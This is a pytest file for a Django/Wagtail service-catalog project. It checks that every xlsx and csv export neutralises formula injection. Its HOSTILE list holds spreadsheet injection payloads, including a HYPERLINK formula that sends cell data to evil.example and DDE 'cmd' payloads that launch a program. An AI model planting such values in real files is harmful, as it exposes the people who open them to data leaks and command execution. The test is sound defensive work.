"""Finding 2 (issue 13), the class test: every .xlsx and .csv the project produces, filled with hostile values,
holds no live formula — each formula-like text is a string cell with the quote prefix (xlsx) or behind an
apostrophe (csv)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from catalog import roles
from catalog.models import AccountabilityCase, LegalBasis, ResponsibilityStage
from catalog.spreadsheets import is_formula_like
from tests.catalog.factories import DepartmentFactory, ServiceItemFactory, UserFactory

from .crawl import SKIPPED_NAMES, admin_patterns, parameters

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "＝1+1",
    " =1+1",
]


@pytest.fixture
def hostile(db):
    department = DepartmentFactory(name="=HYPERLINK(\"http://evil.example/\",\"部门\")")
    items = []
    for index, value in enumerate(HOSTILE):
        item = ServiceItemFactory(name=value, department=department, item_type="01", live=False,
                                  implementation_code=f"=1+{index}", accountable_subject=value)
        LegalBasis.objects.create(item=item, law=value, article=value)
        ResponsibilityStage.objects.create(item=item, stage="accept", content=value)
        AccountabilityCase.objects.create(item=item, situation=value)
        item.live = True
        item.save_revision().publish()
        items.append(item)
    return items


def xlsx_cells(data: bytes):
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_safe_xlsx(data: bytes):
    seen = 0
    for cell in xlsx_cells(data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if is_formula_like(cell.value):
            assert cell.quotePrefix, (cell.coordinate, cell.value)
            seen += 1
    return seen


def assert_safe_csv(text: str):
    seen = 0
    for row in csv.reader(io.StringIO(text)):
        for value in row:
            assert not is_formula_like(value), value
            seen += value.startswith("'")
    return seen


def content(response) -> bytes:
    return b"".join(response.streaming_content) if getattr(response, "streaming", False) else response.content


def test_public_power_list_workbook(client, hostile):
    response = client.get(reverse("publish:power_list_xlsx"))
    assert response.status_code == 200
    assert assert_safe_xlsx(content(response)) >= len(HOSTILE) * 5  # name, code, basis, stages, cases, subject
    # the text is kept as it was, only not evaluated
    values = {cell.value for cell in xlsx_cells(content(response))}
    assert set(HOSTILE) <= values


def test_import_export_template_and_error_report(client, hostile, settings):
    settings.IMPORTS_RUN_INLINE = True
    admin = UserFactory(username="sysadmin", role=roles.SYSTEM_ADMIN)
    client.force_login(admin)
    exported = content(client.get(reverse("imports:export")))
    assert assert_safe_xlsx(exported) >= len(HOSTILE)
    assert_safe_xlsx(content(client.get(reverse("imports:template"))))
    # a file of hostile cells, refused: its error report repeats them
    quoted = ['"' + value.replace('"', '""') + '"' for value in HOSTILE]
    rows = "实施编码,事项名称,事项类型\n" + "\n".join(f"{value},=1+1,99" for value in quoted)
    upload = io.BytesIO(rows.encode("utf-8"))
    upload.name = "hostile.csv"
    client.post(reverse("imports:upload"), {"file": upload})
    from imports.models import ImportJob

    job = ImportJob.objects.latest("pk")
    assert job.errors
    report = client.get(reverse("imports:report", args=[job.pk]))
    assert report.status_code == 200
    assert assert_safe_xlsx(content(report)) >= len(HOSTILE)


def export_urls():
    """Every admin listing and report without path parameters: Wagtail's exports are its ?export= views."""
    return ["/" + route.replace("^", "").replace("$", "") for route, name in admin_patterns()
            if not parameters(route) and name not in SKIPPED_NAMES]


def test_every_admin_export(client, hostile):
    admin = UserFactory(username="sysadmin", role=roles.SYSTEM_ADMIN)
    client.force_login(admin)
    client.raise_request_exception = False
    checked = {}
    for url in export_urls():
        for export_format in ("csv", "xlsx"):
            response = client.get(url, {"export": export_format})
            kind = response.get("Content-Type", "")
            if response.status_code != 200:
                continue
            if kind.startswith("text/csv"):
                checked[(url, export_format)] = assert_safe_csv(content(response).decode("utf-8-sig"))
            elif "spreadsheetml" in kind:
                checked[(url, export_format)] = assert_safe_xlsx(content(response))
    listing = reverse("wagtailsnippets_catalog_serviceitem:list")
    history = reverse("tongban_site_history")
    for key in ((listing, "csv"), (listing, "xlsx"), (history, "csv"), (history, "xlsx")):
        assert key in checked, sorted(checked)
        assert checked[key] >= len(HOSTILE), key  # the hostile names are in it, and neutralised
